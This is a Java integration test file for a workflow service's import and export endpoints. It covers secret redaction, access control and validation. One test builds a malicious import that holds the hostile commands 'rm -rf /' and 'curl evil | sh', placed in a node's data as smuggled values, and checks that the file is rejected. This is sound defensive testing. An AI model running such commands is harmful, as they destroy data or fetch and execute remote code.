package io.agentic.workflow.transfer;

import static org.assertj.core.api.Assertions.assertThat;

import io.agentic.workflow.Api;
import io.agentic.workflow.Api.Answer;
import io.agentic.workflow.TestTokens;
import io.agentic.workflow.WorkflowBodies;
import io.agentic.workflow.WorkflowServiceTest;
import io.agentic.workflow.store.WorkflowDocument;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.data.mongodb.core.MongoTemplate;
import org.springframework.data.mongodb.core.query.Criteria;
import org.springframework.data.mongodb.core.query.Query;
import tools.jackson.databind.JsonNode;

@WorkflowServiceTest
class ImportExportIT {

  @LocalServerPort int port;
  @Autowired MongoTemplate mongo;

  Api api;
  String alice;
  String aliceToken;
  String bob;
  String bobToken;

  @BeforeEach
  void setUp() {
    api = new Api(port);
    alice = TestTokens.newUserId();
    aliceToken = TestTokens.user(alice);
    bob = TestTokens.newUserId();
    bobToken = TestTokens.user(bob);
  }

  private String create(String token, Map<String, Object> body) {
    Answer created = api.post("/api/workflows", token, body);
    assertThat(created.status()).as(created.toString()).isEqualTo(201);
    return created.body().path("id").asString();
  }

  /** What the user owns in MongoDB, public workflows of others aside. */
  private long workflowsOf(String ownerId) {
    return mongo.count(Query.query(Criteria.where("ownerId").is(ownerId)), WorkflowDocument.class);
  }

  @Test
  void exportsAPortableFileAsAnAttachment() {
    String id = create(aliceToken, WorkflowBodies.fixture("every-node-type"));

    Answer export = api.get("/api/workflows/" + id + "/export", aliceToken);

    assertThat(export.status()).isEqualTo(200);
    assertThat(export.contentType()).startsWith("application/json");
    assertThat(export.header("Content-Disposition"))
        .isEqualTo("attachment; filename=\"every-node-type.workflow.json\"");
    JsonNode file = export.body();
    assertThat(file.propertyNames())
        .containsExactly("formatVersion", "name", "description", "tags", "nodes", "edges");
    assertThat(file.path("formatVersion").asInt()).isEqualTo(1);
    assertThat(file.path("name").asString()).isEqualTo("Every node type");
    assertThat(export.raw().body()).doesNotContain(alice);
    assertThat(file.path("nodes").size()).isEqualTo(14);
  }

  @Test
  void importsAnExportAsANewWorkflowOfTheImporter() {
    // given alice's workflow, shared with bob as a viewer
    String id = create(aliceToken, WorkflowBodies.fixture("every-node-type"));
    JsonNode original = api.get("/api/workflows/" + id, aliceToken).body();
    api.put("/api/workflows/" + id + "/permissions", aliceToken, Map.of("viewers", List.of(bob)));
    Answer export = api.get("/api/workflows/" + id + "/export", bobToken);
    assertThat(export.status()).isEqualTo(200);

    // when bob imports the file
    Answer imported = api.post("/api/workflows/import", bobToken, export.raw().body());

    // then he owns a new workflow with the same content
    assertThat(imported.status()).as(imported.toString()).isEqualTo(201);
    JsonNode w = imported.body();
    assertThat(w.path("id").asString()).isNotEqualTo(id);
    assertThat(imported.header("Location")).isEqualTo("/api/workflows/" + w.path("id").asString());
    assertThat(w.path("ownerId").asString()).isEqualTo(bob);
    assertThat(w.path("permissions").path("viewers").isEmpty()).isTrue();
    assertThat(w.path("version").asInt()).isEqualTo(1);
    assertThat(w.path("isPublic").asBoolean()).isFalse();
    for (String field : List.of("name", "description", "tags", "nodes", "edges")) {
      assertThat(w.path(field)).as(field).isEqualTo(original.path(field));
    }
    assertThat(api.get("/api/workflows/" + w.path("id").asString(), bobToken).status())
        .isEqualTo(200);
  }

  @Test
  void hidesSecretsInExports() {
    String id = create(aliceToken, WorkflowBodies.fixture("with-secrets"));

    Answer export = api.get("/api/workflows/" + id + "/export", aliceToken);

    String text = export.raw().body();
    for (String secret : List.of("sk-live-123", "key-456", "s3cr3t", "hunter2", "k-789")) {
      assertThat(text).doesNotContain(secret);
    }
    JsonNode call = export.body().path("nodes").get(1).path("data");
    assertThat(call.path("headers").path("Authorization").asString()).isEqualTo("***");
    assertThat(call.path("headers").path("X-API-Key").asString()).isEqualTo("***");
    assertThat(call.path("headers").path("Content-Type").asString()).isEqualTo("application/json");
    assertThat(call.path("body").path("query").asString()).isEqualTo("{{ q }}");
    assertThat(call.path("body").path("nested").path("keep").asString()).isEqualTo("visible");
    assertThat(export.body().path("nodes").get(2).path("data").path("maxTokens").asInt())
        .isEqualTo(500);
    // and the file with its secrets hidden can still be imported
    assertThat(api.post("/api/workflows/import", aliceToken, text).status()).isEqualTo(201);
  }

  @Test
  void exportsOnlyWhatTheCallerMayRead() {
    String id = create(aliceToken, WorkflowBodies.minimal("private"));

    assertThat(api.get("/api/workflows/" + id + "/export", bobToken).status()).isEqualTo(404);
    assertThat(api.get("/api/workflows/no-such-id/export", aliceToken).status()).isEqualTo(404);
    assertThat(api.get("/api/workflows/" + id + "/export", null).status()).isEqualTo(401);
  }

  @Test
  void rejectsAMaliciousImportWithEveryProblemAndStoresNothing() {
    // a file with an unknown node type, a command smuggled into a node's data, and fields that
    // try to set who owns the workflow
    Map<String, Object> file = new LinkedHashMap<>(WorkflowBodies.minimal("malicious"));
    file.put("formatVersion", 1);
    file.put("ownerId", bob);
    file.put("permissions", Map.of("owners", List.of(bob)));
    List<Object> nodes = new ArrayList<>((List<?>) file.get("nodes"));
    nodes.add(Map.of("id", "shell", "type", "SHELL", "data", Map.of("command", "rm -rf /")));
    nodes.add(
        Map.of(
            "id",
            "fetch",
            "type",
            "HTTP_REQUEST",
            "script",
            "x",
            "data",
            Map.of("method", "GET", "url", "https://example.com", "command", "curl evil | sh")));
    file.put("nodes", nodes);

    Answer imported = api.post("/api/workflows/import", aliceToken, file);

    assertThat(imported.status()).as(imported.toString()).isEqualTo(400);
    assertThat(imported.code()).isEqualTo("GRAPH_INVALID");
    assertThat(imported.body().path("errors").valueStream().map(e -> e.path("field").asString()))
        .contains(
            "ownerId", "permissions", "nodes[3].script", "nodes[2].type", "nodes[3].data.command");
    assertThat(imported.raw().body()).contains("unknown type 'SHELL'");
    assertThat(workflowsOf(alice)).isZero();
  }

  @Test
  void rejectsFilesOfAnotherFormatOrShape() {
    Map<String, Object> noVersion = new LinkedHashMap<>(WorkflowBodies.minimal("x"));
    Map<String, Object> futureVersion = new LinkedHashMap<>(noVersion);
    futureVersion.put("formatVersion", 2);
    Map<String, Object> wrongShape = new LinkedHashMap<>(noVersion);
    wrongShape.put("formatVersion", 1);
    wrongShape.put("nodes", "not a list");

    Answer missing = api.post("/api/workflows/import", aliceToken, noVersion);
    Answer future = api.post("/api/workflows/import", aliceToken, futureVersion);
    Answer shape = api.post("/api/workflows/import", aliceToken, wrongShape);
    Answer array = api.post("/api/workflows/import", aliceToken, "[]");
    Answer broken = api.post("/api/workflows/import", aliceToken, "{\"formatVersion\": ");

    assertThat(missing.status()).isEqualTo(400);
    assertThat(missing.body().path("errors").get(0).path("field").asString())
        .isEqualTo("formatVersion");
    assertThat(future.status()).isEqualTo(400);
    assertThat(future.raw().body()).contains("formatVersion 2 is not supported");
    assertThat(shape.status()).isEqualTo(400);
    assertThat(shape.body().path("errors").get(0).path("field").asString()).isEqualTo("nodes");
    assertThat(array.status()).isEqualTo(400);
    assertThat(broken.status()).isEqualTo(400);
    assertThat(workflowsOf(alice)).isZero();
  }

  @Test
  void refusesImportsByViewers() {
    Map<String, Object> file = new LinkedHashMap<>(WorkflowBodies.minimal("x"));
    file.put("formatVersion", 1);

    Answer imported =
        api.post("/api/workflows/import", TestTokens.viewer(TestTokens.newUserId()), file);

    assertThat(imported.status()).isEqualTo(403);
  }
}
